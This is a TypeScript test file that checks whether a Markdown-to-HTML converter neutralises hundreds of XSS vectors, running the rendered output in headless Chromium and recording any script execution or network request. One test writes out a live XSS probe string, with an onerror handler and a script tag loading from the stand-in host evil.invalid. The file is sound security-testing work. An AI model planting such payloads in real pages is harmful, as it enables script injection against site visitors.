import {parseFragment, serialize} from 'parse5'
import {type Browser, chromium, type Page} from 'playwright-core'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {findChromium} from '../../scripts/setup/chromium.mjs'
import type {Article} from '../../src/article.ts'
import {createConverter} from '../../src/convert.ts'
import {renderPage} from '../../src/deliver/page.ts'
import {dangers} from './inert.ts'
import {htmlVectors, places} from './vectors.ts'
import {urlVectors} from './vectors-own.ts'

const converter = createConverter({references: 'all'})
const vectors = [...htmlVectors, ...urlVectors]

const alone = new Set(['a block', 'a front matter'])

interface Attack {
  place: string
  vector: string
  article: Article
}

let attacks: Attack[]

beforeAll(async () => {
  attacks = []
  for (const [place, put] of Object.entries(places)) {
    // As one article each where it stands as it is, else a dozen in one.
    const size = alone.has(place) ? 1 : 12
    for (let at = 0; at < vectors.length; at += size) {
      const some = vectors.slice(at, at + size)
      const article = await converter.convert(some.map(put).join('\n\n***\n\n'))
      attacks.push({place, vector: some.join('\n'), article})
    }
  }
})

it('there are enough attacks', () => {
  expect(htmlVectors.length).toBeGreaterThan(300)
})

describe('an article', () => {
  it('has nothing in it that could run or load, wherever the attack stands', () => {
    const found = attacks.flatMap(({place, vector, article}) =>
      dangers(article.html).map(danger => `${danger} in ${place}: ${vector}`),
    )
    expect(found).toEqual([])
  })

  it('is read back as it was written', () => {
    const changed = attacks.filter(({article: {html}}) => serialize(parseFragment(html)) !== html)
    expect(changed.map(({place, vector}) => `${place}: ${vector}`)).toEqual([])
  })
})

describe('in Chromium', () => {
  let browser: Browser

  beforeAll(async () => {
    browser = await chromium.launch({executablePath: findChromium()!, args: ['--no-sandbox']})
  })
  afterAll(() => browser.close())

  /** A page that tells when a script of an article runs, and what it asks the network for. */
  async function open(): Promise<{page: Page; events: string[]}> {
    const context = await browser.newContext()
    const events: string[] = []
    await context.route('**', (route, request) => {
      if (request.resourceType() !== 'image') events.push(`asks for ${request.url()}`)
      return route.abort()
    })
    const page = await context.newPage()
    page.on('dialog', dialog => {
      events.push(`dialog ${dialog.message()}`)
      return dialog.dismiss()
    })
    page.on('popup', () => events.push('a window'))
    page.on('framenavigated', frame => {
      if (frame.url() !== 'about:blank') events.push(`goes to ${frame.url()}`)
    })
    await page.exposeFunction('pwned', () => {
      events.push('pwned')
    })
    return {page, events}
  }

  const provoke = (page: Page) =>
    page.evaluate(async () => {
      document.addEventListener('click', event => event.preventDefault(), true)
      for (const element of document.querySelectorAll('*')) {
        for (const type of [
          'click',
          'mouseover',
          'mouseout',
          'mousedown',
          'focus',
          'blur',
          'load',
          'error',
          'scroll',
        ])
          element.dispatchEvent(new MouseEvent(type, {bubbles: true, cancelable: true}))
      }
      await new Promise(done => setTimeout(done, 100))
    })

  it('nothing of an article runs, without any policy of the page’s', async () => {
    const {page, events} = await open()
    for (const place of Object.keys(places)) {
      const html = attacks.filter(each => each.place === place).map(each => `<div>${each.article.html}</div>`)
      await page.setContent(`<meta charset="utf-8">${html.join('\n')}`, {waitUntil: 'domcontentloaded'})
      await provoke(page)
      expect([place, ...events]).toEqual([place])
    }
    expect(await page.locator('script, iframe, object, embed, form, base, meta:not([charset])').count()).toBe(
      0,
    )
  })

  it('a probe that works is noticed', async () => {
    const {page, events} = await open()
    await page.setContent(
      '<img src=x onerror=pwned()><script src="https://evil.invalid/a.js"></script><i onclick=alert(1)>',
      {
        waitUntil: 'domcontentloaded',
      },
    )
    await provoke(page)
    expect(new Set(events)).toEqual(new Set(['pwned', 'asks for https://evil.invalid/a.js', 'dialog 1']))
  })

  it('the page runs nothing but its own script, whatever the front matter says', async () => {
    const {page, events} = await open()
    const some = attacks.filter(each => each.place === 'a front matter').filter((_, at) => at % 6 === 0)
    for (const {vector, article} of some) {
      await page.setContent(renderPage(article, {title: vector}), {waitUntil: 'domcontentloaded'})
      const [scripts, title] = await page.evaluate(() => [
        document.scripts.length,
        document.querySelector('h1.title')?.textContent,
      ])
      // A parser drops NUL.
      expect([scripts, title]).toEqual([1, (article.meta.title ?? vector).replaceAll('\0', '')])
    }
    await provoke(page)
    expect(events).toEqual([])
  })
})
